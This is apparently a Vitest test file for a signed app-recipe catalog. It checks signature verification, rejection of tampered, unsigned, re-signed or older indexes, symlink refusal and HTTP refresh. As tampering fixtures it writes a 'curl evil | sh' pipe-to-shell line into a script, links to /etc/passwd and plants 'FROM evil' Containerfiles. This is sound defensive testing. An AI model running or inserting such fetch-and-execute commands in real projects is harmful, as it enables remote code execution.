import { generateKeyPairSync } from "node:crypto";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildIndex, checkRecipeFiles, renderIndex } from "../../../src/catalog/catalog-index.js";
import { CatalogSource } from "../../../src/catalog/catalog-source.js";
import { loadTrustedKeys, signIndex, verifyIndex } from "../../../src/catalog/signing.js";
import { writeRecipeTarball } from "../../../src/catalog/tarball.js";
import { Store } from "../../../src/store/store.js";

const META = (name: string, version = "1.0-1") => `name = "${name}"
version = "${version}"
upstream = "https://example.org/"
license = "MIT"
description = "The ${name} app"
category = "tools"
maintainer = "Tests <t@example.org>"
`;

function recipe(root: string, name: string, version = "1.0-1") {
  const dir = join(root, name);
  mkdirSync(join(dir, "conf"), { recursive: true });
  writeFileSync(join(dir, "catalog.toml"), META(name, version));
  writeFileSync(join(dir, "hop3.toml"), '[[test.validations]]\npath = "/"\n');
  writeFileSync(join(dir, "Containerfile"), "FROM localhost/hop3/base:bookworm\n");
  writeFileSync(join(dir, "conf", "app.conf"), "listen 8000\n");
}

function keyPair() {
  const { publicKey, privateKey } = generateKeyPairSync("ed25519");
  return {
    pub: publicKey.export({ type: "spki", format: "pem" }).toString(),
    priv: privateKey.export({ type: "pkcs8", format: "pem" }).toString(),
  };
}

/** A signed catalog directory with keys/ holding the public key. */
function catalog(
  serial: number,
  key: { pub: string; priv: string },
  names = ["alpha", "beta"],
  version = "1.0-1",
) {
  const dir = mkdtempSync(join(tmpdir(), "catalog-"));
  for (const n of names) recipe(dir, n, version);
  mkdirSync(join(dir, "keys"));
  writeFileSync(join(dir, "keys", "hop3-catalog.pub"), key.pub);
  const text = renderIndex(buildIndex(dir, serial, new Date()));
  writeFileSync(join(dir, "index.json"), text);
  writeFileSync(join(dir, "index.json.sig"), signIndex(text, key.priv));
  return dir;
}

const read = (dir: string, f: string) => readFileSync(join(dir, f));

describe("the index", () => {
  const key = keyPair();
  it("lists every recipe with its version, metadata and the sha256 of each file", () => {
    const dir = catalog(3, key);
    const index = JSON.parse(read(dir, "index.json").toString());
    expect(index.serial).toBe(3);
    expect(Object.keys(index.recipes)).toEqual(["alpha", "beta"]);
    expect(index.recipes.alpha.version).toBe("1.0-1");
    expect(Object.keys(index.recipes.alpha.files).sort()).toEqual([
      "Containerfile",
      "catalog.toml",
      "conf/app.conf",
      "hop3.toml",
    ]);
    expect(index.recipes.alpha.files["conf/app.conf"]).toMatch(/^[0-9a-f]{64}$/);
  });
  it("refuses an invalid recipe, naming it", () => {
    const dir = catalog(1, key);
    writeFileSync(join(dir, "beta", "catalog.toml"), META("beta").replace('"tools"', '"toys"'));
    expect(() => buildIndex(dir, 2, new Date())).toThrow(/catalog\/beta\/catalog.toml:6: category/);
  });
  it("refuses links in a recipe", () => {
    const dir = catalog(1, key);
    symlinkSync("/etc/passwd", join(dir, "alpha", "passwd"));
    expect(() => buildIndex(dir, 2, new Date())).toThrow(/passwd: a link/);
  });
});

describe("verification refuses", () => {
  const key = keyPair();
  const keys = () => loadTrustedKeys([join(catalog(1, key), "keys")]);
  it("accepts a good index", () => {
    const dir = catalog(5, key);
    expect(verifyIndex(read(dir, "index.json"), read(dir, "index.json.sig"), keys(), 4).serial).toBe(5);
    checkRecipeFiles(dir, verifyIndex(read(dir, "index.json"), read(dir, "index.json.sig"), keys()));
  });
  it("an unsigned index", () => {
    const dir = catalog(5, key);
    expect(() => verifyIndex(read(dir, "index.json"), undefined, keys())).toThrow(
      /refused: it is not signed/,
    );
  });
  it("a changed index (bad signature)", () => {
    const dir = catalog(5, key);
    const changed = Buffer.from(read(dir, "index.json").toString().replace('"serial": 5', '"serial": 50'));
    expect(() => verifyIndex(changed, read(dir, "index.json.sig"), keys())).toThrow(/refused: bad signature/);
  });
  it("an index signed by an unknown key (re-signed)", () => {
    const dir = catalog(5, keyPair());
    expect(() => verifyIndex(read(dir, "index.json"), read(dir, "index.json.sig"), keys())).toThrow(
      /refused: it is signed by an unknown key [0-9a-f]{16}/,
    );
  });
  it("a garbled signature file", () => {
    const dir = catalog(5, key);
    expect(() => verifyIndex(read(dir, "index.json"), Buffer.from("xx"), keys())).toThrow(
      /not a signature file/,
    );
  });
  it("an older index than the installed one", () => {
    const dir = catalog(5, key);
    expect(() => verifyIndex(read(dir, "index.json"), read(dir, "index.json.sig"), keys(), 6)).toThrow(
      /serial 5 is older than the installed catalog's 6/,
    );
  });
  it("a recipe file whose hash differs, a missing file, an unlisted file, an unlisted recipe", () => {
    const dir = catalog(5, key);
    const index = verifyIndex(read(dir, "index.json"), read(dir, "index.json.sig"), keys());
    writeFileSync(join(dir, "alpha", "conf", "app.conf"), "listen 9000\n");
    rmSync(join(dir, "beta", "Containerfile"));
    writeFileSync(join(dir, "beta", "extra.sh"), "curl evil | sh\n");
    recipe(dir, "gamma");
    expect(() => checkRecipeFiles(dir, index)).toThrow(
      /catalog\/gamma is not in the signed index.*alpha\/conf\/app.conf: sha256 .* differs.*beta\/Containerfile: missing.*beta\/extra.sh: not in the signed index/,
    );
  });
});

describe("the server's catalog (CatalogSource)", () => {
  const key = keyPair();
  let server: Server;
  let url = "";
  const served: Record<string, Buffer> = {};
  beforeAll(async () => {
    server = createServer((req, res) => {
      const body = served[(req.url ?? "").replace(/^\/catalog\//, "")];
      if (!body) {
        res.writeHead(404).end();
        return;
      }
      res.writeHead(200).end(body);
    });
    await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
    url = `http://127.0.0.1:${(server.address() as { port: number }).port}/catalog`;
  });
  afterAll(() => server.close());

  async function publish(serial: number, signer = key, version = "1.0-1") {
    const dir = catalog(serial, signer, ["alpha", "beta", "gamma"], version);
    const tar = join(dir, "..", `${serial}-${Date.now()}.tar.gz`);
    await writeRecipeTarball(dir, tar);
    served["index.json"] = read(dir, "index.json");
    served["index.json.sig"] = read(dir, "index.json.sig");
    served["catalog.tar.gz"] = readFileSync(tar);
  }

  function source() {
    const bundled = catalog(2, key);
    const root = mkdtempSync(join(tmpdir(), "hop3-root-"));
    const store = Store.open(join(root, "hop3.db"), join(root, "secret.key"));
    const src = new CatalogSource(
      { bundledDir: bundled, refreshedDir: join(root, "catalog"), keyDirs: [join(bundled, "keys")], url },
      store,
      { dir: join(root, "tmp") },
    );
    return { src, store, bundled, root };
  }

  it("uses the bundled catalog and records its serial", () => {
    const { src, store } = source();
    expect(src.active().index.serial).toBe(2);
    expect(store.getSetting("catalog.serial")).toBe("2");
    expect(src.recipe("alpha").recipe.meta.name).toBe("alpha");
    expect(() => src.recipe("nope")).toThrow(/the catalog has no app "nope"/);
  });

  it("refuses one changed recipe and keeps the others usable", () => {
    const { src, bundled } = source();
    writeFileSync(join(bundled, "beta", "Containerfile"), "FROM evil\n");
    expect(src.usable().names).toEqual(["alpha"]);
    expect(() => src.recipe("beta")).toThrow(/beta\/Containerfile: sha256 .* differs/);
  });

  it("refuses a bundled catalog older than the one installed", () => {
    const { src, store } = source();
    store.setSetting("catalog.serial", "7");
    expect(() => src.active()).toThrow(/serial 2 is older than the installed catalog's 7/);
  });

  it("refresh: applies a newer signed catalog fetched over HTTP, then refuses older, unsigned and re-signed ones", async () => {
    const { src, store } = source();
    await publish(3, key, "2.0-1");
    const lines: string[] = [];
    const r = await src.refresh((l) => lines.push(l));
    expect(r).toMatchObject({ updated: true, serial: 3, previous: 2, recipes: 3 });
    expect(src.active()).toMatchObject({ origin: "refreshed" });
    expect(src.recipe("gamma").recipe.meta.version).toBe("2.0-1");
    expect(store.getSetting("catalog.serial")).toBe("3");

    // the same serial again: nothing to do
    expect(await src.refresh(() => {})).toMatchObject({ updated: false, serial: 3 });
    // older
    await publish(2, key);
    await expect(src.refresh(() => {})).rejects.toThrow(/serial 2 is older than the installed catalog's 3/);
    // signed by another key
    await publish(4, keyPair());
    await expect(src.refresh(() => {})).rejects.toThrow(/signed by an unknown key/);
    // unsigned
    await publish(4, key);
    delete served["index.json.sig"];
    await expect(src.refresh(() => {})).rejects.toThrow(/not signed/);
    // a tarball that does not match the signed index
    await publish(5, key);
    const other = catalog(5, key, ["alpha"]);
    const tar = join(other, "..", "other.tar.gz");
    writeFileSync(join(other, "alpha", "Containerfile"), "FROM evil\n");
    await writeRecipeTarball(other, tar);
    served["catalog.tar.gz"] = readFileSync(tar);
    await expect(src.refresh(() => {})).rejects.toThrow(/do not match its signed index/);
    // what was installed is still there, unchanged
    expect(src.active().index.serial).toBe(3);
    expect(src.recipe("gamma").recipe.meta.version).toBe("2.0-1");
  });

  it("refresh without a URL says what to set", async () => {
    const { store, bundled, root } = source();
    const src = new CatalogSource(
      { bundledDir: bundled, refreshedDir: join(root, "catalog"), keyDirs: [join(bundled, "keys")] },
      store,
      { dir: join(root, "tmp") },
    );
    await expect(src.refresh(() => {})).rejects.toThrow(/no catalog URL is configured/);
  });
});

describe("the committed catalog", () => {
  it("ships the public key only", () => {
    const keys = loadTrustedKeys([join(import.meta.dirname, "..", "..", "..", "catalog", "keys")]);
    expect(keys.length).toBeGreaterThanOrEqual(1);
    expect(
      readFileSync(
        join(import.meta.dirname, "..", "..", "..", "catalog", "keys", "hop3-catalog.pub"),
        "utf8",
      ),
    ).toMatch(/^-----BEGIN PUBLIC KEY-----/);
  });
});
